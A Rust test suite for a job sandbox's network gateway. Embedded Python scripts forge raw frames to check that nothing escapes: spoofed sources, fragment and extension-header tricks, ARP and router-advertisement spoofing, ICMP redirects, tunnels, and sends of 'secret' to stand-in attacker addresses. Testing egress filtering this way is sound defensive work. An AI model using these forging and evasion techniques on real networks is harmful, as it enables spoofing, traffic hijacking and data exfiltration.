//! Frames that no job can send: made by somebody with every right in the job's network namespace, as if
//! a job had won them by a fault elsewhere. What the gateway's side drops, forwards nowhere and survives.

use std::net::IpAddr;

use crate::jail::Jail;
use crate::namespace;
use crate::outcome::Outcome;
use crate::suite::{Mode, Suite, both};
use crate::world::World;

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        every_protocol,
        forged_sources,
        fragments_and_extension_headers,
        neighbours_and_routers,
        other_ethertypes,
        other_addresses_and_routes,
    );
}

/// Python that sends frames and packets; the secret tells that one got out.
const TOOLS: &str = "\
import socket, struct
GATEWAY, JOB = bytes.fromhex('02636a000001'), bytes.fromhex('02636a000002')
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(('eth0', 0))
def frame(ethertype, payload, to=GATEWAY, sender=JOB):
    try: link.send(to + sender + struct.pack('>H', ethertype) + payload)
    except OSError: pass
def sum16(data):
    data += b'\\0' * (len(data) % 2)
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def ip4(protocol, payload, source='192.0.0.2', to='198.51.100.66', number=1, part=0, options=b''):
    head = lambda s: struct.pack('>BBHHHBBH', 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), number, part, 64, protocol, s) \\
        + socket.inet_aton(source) + socket.inet_aton(to) + options
    return head(sum16(head(0))) + payload
def ip6(following, payload, source='fd63:696a::2', to='2001:db8:bad::66', hops=64):
    inet = lambda a: socket.inet_pton(socket.AF_INET6, a)
    return struct.pack('>IHBB', 6 << 28, len(payload), following, hops) + inet(source) + inet(to) + payload
def udp4(payload=b'secret', source='192.0.0.2', to='198.51.100.66', port=9, sender=40000):
    bare = struct.pack('>HHHH', sender, port, 8 + len(payload), 0) + payload
    pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack('>BBH', 0, 17, len(bare))
    return bare[:6] + struct.pack('>H', sum16(pseudo + bare) or 0xffff) + payload
def over6(protocol, bare, at, source='fd63:696a::2', to='2001:db8:bad::66'):
    inet = lambda a: socket.inet_pton(socket.AF_INET6, a)
    pseudo = inet(source) + inet(to) + struct.pack('>IHBB', len(bare), 0, 0, protocol)
    return bare[:at] + struct.pack('>H', sum16(pseudo + bare) or 0xffff) + bare[at + 2:]
def udp6(payload=b'secret', port=9, **ends):
    return over6(17, struct.pack('>HHHH', 40000, port, 8 + len(payload), 0) + payload, 6, **ends)
";

/// Sends from the namespace of a job that does nothing, and then lets it fetch a page: all that left the host
/// belongs to that page.
fn send(mode: Mode, script: &str) -> Outcome {
    let world = World::new();
    let site = world.site("good.test");
    let jail = Jail::new(&world, mode).allow("good.test").allow("203.0.113.53:53");
    let mut running = jail.start(["sh", "-c", "echo ready; read line; exec curl -sS http://good.test/"]);
    running.wait_for("ready");
    let job = namespace::of_job(running.pid());
    job.run(&["/usr/bin/python3", "-c", &format!("{TOOLS}{script}")]);
    running.type_in(b"\n");
    let outcome = running.finish();
    outcome.assert_success().assert_stdout("ready\nhello from good.test\n");
    assert!(!world.wire().saw_bytes(b"secret"), "{outcome}");
    world.assert_attacker_saw_nothing();
    let known: Vec<IpAddr> = site.addresses().into_iter().chain(["203.0.113.53".parse().unwrap()]).collect();
    for packet in world.wire().packets() {
        assert!(packet.destination().is_none_or(|to| known.contains(&to) || is_of_the_link(to)), "{packet}");
    }
    world.assert_nothing_left();
    outcome
}

/// What the host's own kernel says to its neighbours.
fn is_of_the_link(address: IpAddr) -> bool {
    match address {
        IpAddr::V4(address) => address.is_multicast(),
        IpAddr::V6(address) => address.is_multicast() || address.is_unicast_link_local(),
    }
}

fn every_protocol(mode: Mode) {
    // Slowly: a rootless gateway's socket for records is small.
    let script = "\
import time
for protocol in range(256):
    if protocol % 16 == 0: time.sleep(0.02)
    frame(0x0800, ip4(protocol, b'secret' * 10))
    frame(0x86dd, ip6(protocol, b'secret' * 10))
";
    let outcome = send(mode, script);
    for detail in ["sctp", "gre", "ipip", "sixinfour", "esp", "other(253)"] {
        let told = |event: &&&crate::outcome::Event| event.detail.as_deref() == Some(detail);
        assert!(outcome.denied().iter().any(|event| told(&event)), "{detail}: {outcome}");
    }
    outcome.assert_denied("icmp", "198.51.100.66", "protocol-not-allowed");
}

/// Of the gateway, the host, its resolver and its loopback, of everybody and nobody.
fn forged_sources(mode: Mode) {
    let script = "\
for source in ('192.0.0.1', '198.18.0.2', '203.0.113.53', '127.0.0.1', '0.0.0.0', '255.255.255.255', '224.0.0.1', '198.51.100.66'):
    for to in ('198.51.100.66', '203.0.113.53', '198.18.0.2', '127.0.0.1', '192.0.0.1', '192.0.0.2'):
        for port in (9, 53):
            frame(0x0800, ip4(17, udp4(source=source, to=to, port=port), source, to))
        syn = struct.pack('>HHIIBBHHH', 40000, 80, 1, 0, 0x50, 2, 1000, 0, 0)
        pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack('>BBH', 0, 6, 20)
        frame(0x0800, ip4(6, syn[:16] + struct.pack('>H', sum16(pseudo + syn)) + syn[18:], source, to))
        frame(0x0800, ip4(17, udp4(source=source, to=to), source, to, options=bytes([131, 7, 4]) + socket.inet_aton('198.18.0.1') + b'\\0'))
for source in ('fd63:696a::1', '2001:db8:18::2', '::1', '::', 'ff02::1', '::ffff:198.51.100.66', 'fe80::1'):
    for to in ('2001:db8:bad::66', '2001:db8:18::2', '::1', 'fd63:696a::1', '::ffff:198.51.100.66', '64:ff9b::c633:6442'):
        for port in (9, 53): frame(0x86dd, ip6(17, udp6(port=port, source=source, to=to), source, to))
";
    let outcome = send(mode, script);
    outcome.assert_denied("udp", "198.51.100.66", "ip-not-allowed");
}

/// Data where a filter may look for a header, or behind headers that it may not follow.
fn fragments_and_extension_headers(mode: Mode) {
    let script = "\
whole = udp4(b'secret' * 300)
# In order, the other way round, overlapping, with a hole, and a first one that is too short for its header.
for number, cuts in enumerate(((0, 800), (800, 0), (0, 792), (0, 1600), (8, 0), (0, 8))):
    for at in cuts:
        more = 0x2000 if at != max(cuts) else 0
        end = len(whole) if at == max(cuts) else at + 800
        frame(0x0800, ip4(17, whole[at:end], number=number + 7, part=more | at // 8))
for at in (0, 65528):
    frame(0x0800, ip4(17, whole[:800], number=99, part=(0x2000 if at == 0 else 0) | at // 8))
inner = udp6()
options = lambda following: bytes([following, 0, 1, 4, 0, 0, 0, 0])
routing = lambda following, kind: bytes([following, 2, kind, 1, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, '2001:db8:bad::66')
frame(0x86dd, ip6(0, options(17) + inner))
frame(0x86dd, ip6(60, options(60) + options(17) + inner))
for kind in (0, 2, 3, 4): frame(0x86dd, ip6(43, routing(17, kind) + inner, to='fd63:696a::1'))
for kind in (0, 2, 3, 4): frame(0x86dd, ip6(43, routing(17, kind) + inner))
frame(0x86dd, ip6(44, bytes([17, 0, 0, 0, 0, 0, 0, 5]) + inner))
frame(0x86dd, ip6(44, bytes([60, 0, 0, 1, 0, 0, 0, 6]) + options(17)))
frame(0x86dd, ip6(44, bytes([60, 0, 0, 8, 0, 0, 0, 6]) + inner))
frame(0x86dd, ip6(0, b'\\x3b\\x00\\x05\\x02\\x00\\x00\\x01\\x00' + b'secret'))
frame(0x86dd, ip6(41, ip6(17, inner)))
frame(0x86dd, ip6(17, inner)[:50])
frame(0x0800, ip4(17, udp4())[:30])
frame(0x0800, ip4(4, ip4(17, udp4())))
";
    let outcome = send(mode, script);
    outcome.assert_denied("udp", "198.51.100.66", "ip-not-allowed");
    outcome.assert_denied("udp", "2001:db8:bad::66", "ip-not-allowed");
}

/// ARP and neighbour discovery that claim the gateway's or the job's addresses, routers that announce
/// themselves, DHCP, IGMP and LLMNR.
fn neighbours_and_routers(mode: Mode) {
    let script = "\
EVERYBODY, OTHER = b'\\xff' * 6, bytes.fromhex('020000000066')
address4 = socket.inet_aton
address6 = lambda a: socket.inet_pton(socket.AF_INET6, a)
for operation in (1, 2, 3, 8):
    for who in ('192.0.0.1', '192.0.0.2', '198.18.0.1', '0.0.0.0'):
        arp = struct.pack('>HHBBH', 1, 0x0800, 6, 4, operation) + OTHER + address4(who) + GATEWAY + address4(who)
        for to in (EVERYBODY, GATEWAY): frame(0x0806, arp + b'secret', to, OTHER)
def icmp6(kind, body, source='fe80::63:6aff:fe00:2', to='ff02::1', mac=bytes.fromhex('333300000001')):
    bare = bytes([kind, 0, 0, 0]) + body
    frame(0x86dd, ip6(58, over6(58, bare, 2, source, to), source, to, 255), mac)
prefix = bytes([3, 4, 64, 0xc0]) + b'\\xff' * 8 + bytes(4) + address6('2001:db8:bad::')
resolver = bytes([25, 3, 0, 0]) + b'\\xff' * 4 + address6('2001:db8:bad::66')
for mac in (bytes.fromhex('333300000001'), GATEWAY):
    icmp6(134, struct.pack('>BBHII', 64, 0xc0, 1800, 0, 0) + prefix + resolver + b'\\x01\\x01' + OTHER, mac=mac)
    icmp6(133, bytes(4) + b'secret!!', mac=mac)
    for target in ('fd63:696a::1', 'fd63:696a::2', 'fe80::1'):
        icmp6(136, b'\\xa0\\0\\0\\0' + address6(target) + b'\\x02\\x01' + OTHER, mac=mac)
        icmp6(135, bytes(4) + address6(target) + b'\\x01\\x01' + OTHER, mac=mac)
    icmp6(137, bytes(4) + address6('2001:db8:bad::66') + address6('2001:db8:bad::66') + b'\\x02\\x01' + OTHER, mac=mac)
    icmp6(1, bytes(4) + ip6(17, udp6()), to='fd63:696a::1', mac=mac)
    icmp6(2, struct.pack('>I', 1280) + ip6(6, b'secret' * 10, 'fd63:696a::1', 'fd63:696a::2'), to='fd63:696a::1', mac=mac)
# Redirects and sizes that the gateway's own kernel might believe.
for kind, code in ((5, 1), (3, 4), (3, 3), (8, 0), (13, 0), (17, 0)):
    inner = ip4(6, b'secret' * 4, '192.0.0.1', '192.0.0.2')
    bare = bytes([kind, code, 0, 0]) + address4('198.51.100.66') + inner
    frame(0x0800, ip4(1, bare[:2] + struct.pack('>H', sum16(bare)) + bare[4:], to='192.0.0.1'))
for source in ('0.0.0.0', '192.0.0.2'):
    discover = bytes([1, 1, 6, 0]) + b'secret' + bytes(230) + bytes.fromhex('63825363350101ff')
    frame(0x0800, ip4(17, udp4(discover, source, '255.255.255.255', 67, 68), source, '255.255.255.255'), EVERYBODY)
frame(0x0800, ip4(2, bytes.fromhex('16000000efffffff') + b'secret', to='239.255.255.255'), bytes.fromhex('01005e7fffff'))
";
    let outcome = send(mode, script);
    outcome.assert_denied("icmp", "ff02::1", "protocol-not-allowed");
}

/// What is not IP reaches nothing that would pass it on.
fn other_ethertypes(mode: Mode) {
    let script = "\
for ethertype in (0x8100, 0x88a8, 0x9100):
    for tag in (0, 1, 0x2001):
        inner = struct.pack('>HH', tag, 0x0800) + ip4(17, udp4())
        frame(ethertype, inner)
        frame(ethertype, struct.pack('>HH', tag, 0x8100) + inner)
for ethertype in (0x0842, 0x8847, 0x8848, 0x8863, 0x8864, 0x88cc, 0x88e5, 0x888e, 0x22f3, 0x8906, 0x9000, 0xffff, 0x0600, 40):
    frame(ethertype, b'secret' * 20)
    frame(ethertype, b'secret' * 20, b'\\xff' * 6)
frame(0x8864, b'\\x11\\0\\0\\1\\0\\x40\\0\\x21' + ip4(17, udp4()))
frame(0x8847, bytes.fromhex('00010140') + ip4(17, udp4()))

";
    send(mode, script);
}

/// The job's end of the link with the host's own addresses, routes and names for its neighbours.
fn other_addresses_and_routes(mode: Mode) {
    let script = "\
import subprocess
def ip(words): subprocess.run(['ip'] + words.split(), stderr=subprocess.DEVNULL)
def knock():
    for host, port in (('198.51.100.66', 9), ('203.0.113.53', 9), ('198.18.0.1', 9), ('2001:db8:bad::66', 9)):
        s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)
        try: s.sendto(b'secret', (host, port))
        except OSError: pass
for address in ('198.18.0.2/30', '192.0.0.1/29', '203.0.113.53/32', '127.0.0.2/8'):
    ip(f'address add {address} dev eth0'); knock(); ip(f'address del {address} dev eth0')
ip('address add 2001:db8:18::2/64 dev eth0 nodad'); knock(); ip('address del 2001:db8:18::2/64 dev eth0')
ip('route replace 198.51.100.66 via 192.0.0.1 dev eth0 src 192.0.0.2 onlink'); knock()
ip('link set eth0 address 02:00:00:00:00:02'); knock(); ip('link set eth0 address 02:63:6a:00:00:02')
ip('link set eth0 mtu 68'); knock(); ip('link set eth0 mtu 65535')
ip('link add v0 link eth0 type vlan id 7'); ip('link add m0 link eth0 type macvlan'); ip('link set m0 up'); knock()
ip('link add t0 type ipip remote 198.51.100.66 local 192.0.0.2'); ip('link set t0 up'); ip('route add 198.51.100.0/24 dev t0'); knock()
for device in ('t0', 'm0', 'v0'): ip(f'link del {device}')
ip('-6 address add fd63:696a::2/64 dev eth0 nodad'); ip('-6 route replace default via fd63:696a::1')
";
    let outcome = send(mode, script);
    outcome.assert_denied("udp", "198.51.100.66", "ip-not-allowed");
}
